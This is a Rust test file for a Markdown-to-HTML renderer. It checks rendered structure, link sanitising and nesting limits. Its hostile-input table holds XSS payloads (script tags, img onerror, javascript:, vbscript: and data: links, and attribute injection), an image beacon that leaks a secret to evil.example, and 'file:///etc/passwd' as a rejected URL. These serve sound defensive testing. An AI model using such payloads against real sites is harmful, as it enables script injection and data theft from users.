//! Markdown answers rendered to HTML strings natively (`yew::ServerRenderer`): their structure,
//! and what a hostile answer cannot do.

use super::markdown::{markdown_to_html, safe_href, LINK_REL, MAX_DEPTH};
use super::markdown_answer::{MarkdownAnswer, MarkdownAnswerProps};
use pulldown_cmark::LinkType;
use std::future::Future;
use std::rc::Rc;
use std::sync::Arc;
use std::task::{Context, Poll, Wake, Waker};
use yew::prelude::*;

#[derive(Properties, PartialEq)]
struct DocProps {
    source: String,
}

#[function_component]
fn Doc(props: &DocProps) -> Html {
    markdown_to_html(&props.source)
}

/// Run a future to its end on this thread.
fn block_on<F: Future>(future: F) -> F::Output {
    struct Unpark(std::thread::Thread);
    impl Wake for Unpark {
        fn wake(self: Arc<Self>) {
            self.0.unpark();
        }
    }
    let waker = Waker::from(Arc::new(Unpark(std::thread::current())));
    let mut context = Context::from_waker(&waker);
    let mut future = std::pin::pin!(future);
    loop {
        if let Poll::Ready(output) = future.as_mut().poll(&mut context) {
            return output;
        }
        std::thread::park();
    }
}

/// `source` rendered as one Markdown document.
fn render(source: &str) -> String {
    let source = source.to_owned();
    block_on(
        yew::ServerRenderer::<Doc>::with_props(move || DocProps { source })
            .hydratable(false)
            .render(),
    )
}

/// `source` rendered by [`MarkdownAnswer`], block by block.
fn render_answer(source: &str) -> String {
    let source = source.to_owned();
    block_on(
        yew::ServerRenderer::<MarkdownAnswer>::with_props(move || MarkdownAnswerProps {
            text: Rc::from(source),
        })
        .hydratable(false)
        .render(),
    )
}

fn assert_has(html: &str, parts: &[&str]) {
    for part in parts {
        assert!(html.contains(part), "missing {part:?} in\n{html}");
    }
}

const ANSWER: &str = "# PKCE\n\nIt is *simple* and **safe**, with `code_verifier`.\n\n- one\n- two\n\n3. three\n4. four\n\n| step | who |\n|:-----|----:|\n| hash | app |\n\n```rust\nlet x = 1 < 2;\n```\n\nSee [the spec](https://datatracker.ietf.org/doc/html/rfc7636 \"RFC\") or <mailto:a@b.example>, <jane@example.org>.\n\n> quoted\n\n---\n\nline one  \nline ~~two~~\n";

#[test]
fn an_answer_renders_as_elements() {
    let html = render(ANSWER);
    let link = format!(
        r#"<a href="https://datatracker.ietf.org/doc/html/rfc7636" rel="{LINK_REL}" target="_blank" title="RFC">the spec</a>"#
    );
    assert_has(
        &html,
        &[
            r#"<p class="hf-oauth-md-heading hf-oauth-md-h1">PKCE</p>"#,
            "<p>It is <em>simple</em> and <strong>safe</strong>, with <code>code_verifier</code>.</p>",
            "<ul><li>one</li><li>two</li></ul>",
            r#"<ol start="3"><li>three</li><li>four</li></ol>"#,
            r#"<div class="hf-oauth-md-table"><table><thead><tr><th class="hf-oauth-md-left">step</th><th class="hf-oauth-md-right">who</th></tr></thead><tbody><tr><td class="hf-oauth-md-left">hash</td><td class="hf-oauth-md-right">app</td></tr></tbody></table></div>"#,
            r#"<span class="hf-oauth-code-language">rust</span>"#,
            r#"aria-label="Copy the rust code" class="hf-oauth-code-copy">Copy</button>"#,
            r#"<pre tabindex="0"><code class="language-rust">let x = 1 &lt; 2;"#,
            &link,
            r#"<a href="mailto:a@b.example" rel="noopener noreferrer nofollow" target="_blank">mailto:a@b.example</a>"#,
            r#"<a href="mailto:jane@example.org" rel="noopener noreferrer nofollow" target="_blank">jane@example.org</a>"#,
            "<blockquote><p>quoted</p></blockquote>",
            "<hr>",
            "line one<br>line <del>two</del>",
        ],
    );
    // Block by block, the answer reads the same.
    let answer = render_answer(ANSWER);
    assert!(
        answer.starts_with(r#"<div class="hf-oauth-answer-md "#),
        "{answer}"
    );
    let inner = &answer[answer.find('>').map_or(0, |i| i + 1)..];
    assert_eq!(
        inner.trim_end_matches("</div>"),
        html.trim_end_matches("</div>")
    );
}

#[test]
fn hostile_answers_stay_text() {
    // (answer, what must not appear in the HTML, what must)
    let table: &[(&str, &[&str], &str)] = &[
        (
            "<script>alert(1)</script>",
            &["<script"],
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ),
        (
            "Hi <script>alert(1)</script> there",
            &["<script"],
            "Hi &lt;script&gt;",
        ),
        (
            "<img src=x onerror=alert(1)>",
            &["<img"],
            "&lt;img src=x onerror=alert(1)&gt;",
        ),
        (
            "a <img src=x onerror=alert(1)> b",
            &["<img"],
            "&lt;img src=x onerror=alert(1)&gt;",
        ),
        (
            "<iframe src=\"https://evil.example\"></iframe>",
            &["<iframe"],
            "&lt;iframe",
        ),
        (
            "<a href=\"javascript:alert(1)\">x</a>",
            &["<a "],
            "&lt;a href=",
        ),
        (
            "[click](javascript:alert(1))",
            &["<a ", "href"],
            "<p>click</p>",
        ),
        (
            "[click](JaVaScRiPt:alert(1))",
            &["<a ", "href"],
            "<p>click</p>",
        ),
        ("[click](java\tscript:alert(1))", &["<a ", "href"], "click"),
        (
            "[click](data:text/html;base64,PHNjcmlwdD4=)",
            &["<a ", "href"],
            "<p>click</p>",
        ),
        (
            "[click](vbscript:msgbox(1))",
            &["<a ", "href"],
            "<p>click</p>",
        ),
        ("[click](/relative/path)", &["<a ", "href"], "<p>click</p>"),
        (
            "[click](//evil.example/x)",
            &["<a ", "href"],
            "<p>click</p>",
        ),
        (
            "<javascript:alert(1)>",
            &["<a ", "href"],
            "<p>javascript:alert(1)</p>",
        ),
        (
            "[x]: javascript:alert(1)\n\n[click][x]",
            &["<a ", "href"],
            "<p>click</p>",
        ),
        (
            "![alt text](https://evil.example/pixel.png?leak=secret)",
            &["<img", "evil.example"],
            "<p>alt text</p>",
        ),
        (
            "<https://huggingface.co/\"onmouseover=\"alert(1)>",
            &[" onmouseover", "\"onmouseover=\"alert(1)\" rel"],
            "href=\"https://huggingface.co/&quot;onmouseover=&quot;alert(1)\" rel",
        ),
        (
            "```\n<script>alert(1)</script>\n```",
            &["<script"],
            "&lt;script&gt;",
        ),
        ("`<b>`", &["<b>"], "<code>&lt;b&gt;</code>"),
        ("<!-- hidden -->visible", &["<!--"], "&lt;!-- hidden --&gt;"),
        (
            "```x\" onclick=\"alert(1)\nx\n```",
            &["onclick=\"", "language-x\""],
            "<code>x\n</code>",
        ),
    ];
    for (answer, absent, present) in table {
        let html = render(answer);
        for part in *absent {
            assert!(
                !html.contains(part),
                "{answer:?} rendered {part:?}:\n{html}"
            );
        }
        assert!(
            html.contains(present),
            "{answer:?} lacks {present:?}:\n{html}"
        );
    }
}

#[test]
fn an_unclosed_fence_is_code_to_the_end() {
    let html = render("Here:\n\n```python\nprint(1)\n\n# more");
    assert_has(
        &html,
        &[
            "<p>Here:</p>",
            r#"<code class="language-python">print(1)

# more</code>"#,
        ],
    );
    // While it streams, the same.
    assert_eq!(
        render_answer("Here:\n\n```python\nprint(1)\n\n# more")
            .matches("<pre")
            .count(),
        1
    );
}

#[test]
fn nesting_beyond_the_limit_shows_as_text_and_the_stack_holds() {
    let deep: &[(String, &str)] = &[
        ("- ".repeat(10_000) + "x", "<ul>"),
        ("> ".repeat(10_000) + "x", "<blockquote>"),
        ("1. ".repeat(10_000) + "x", "<ol>"),
        ("*".repeat(10_000) + "x" + &"*".repeat(10_000), "<em>"),
        (
            "[".repeat(10_000) + "x" + &"](https://a.example)".repeat(10_000),
            "<a ",
        ),
        (
            (0..3_000)
                .map(|i| format!("{}- x\n", "  ".repeat(i)))
                .collect(),
            "<ul>",
        ),
    ];
    for (answer, element) in deep {
        let html = render(answer);
        assert!(
            html.matches(element).count() <= MAX_DEPTH,
            "{element} nested {} times",
            html.matches(element).count()
        );
        assert!(html.contains('x'), "the text is kept");
        let answer_html = render_answer(answer);
        assert!(answer_html.matches(element).count() <= MAX_DEPTH);
    }
    // Just past the limit, the rest is the source text.
    let html = render(&("> ".repeat(MAX_DEPTH + 3) + "deep"));
    assert_eq!(html.matches("<blockquote>").count(), MAX_DEPTH);
    assert!(html.contains("&gt; &gt; &gt; deep"), "{html}");
}

#[test]
fn only_http_https_and_mailto_links_keep_their_address() {
    let inline = LinkType::Inline;
    assert_eq!(
        safe_href(inline, "https://x.example/a?b#c").as_deref(),
        Some("https://x.example/a?b#c")
    );
    assert_eq!(
        safe_href(inline, "HTTP://x.example").as_deref(),
        Some("HTTP://x.example")
    );
    assert_eq!(
        safe_href(inline, "mailto:a@b.example").as_deref(),
        Some("mailto:a@b.example")
    );
    assert_eq!(
        safe_href(LinkType::Email, "a@b.example").as_deref(),
        Some("mailto:a@b.example")
    );
    for unsafe_url in [
        "javascript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "/path",
        "#top",
        "//evil.example",
        "https:evil.example",
        "http:/evil.example",
        "https://x.example/\u{0}",
        "",
    ] {
        assert_eq!(safe_href(inline, unsafe_url), None, "{unsafe_url:?}");
    }
    assert_eq!(safe_href(LinkType::Email, "javascript:alert(1)//@x"), None);
}
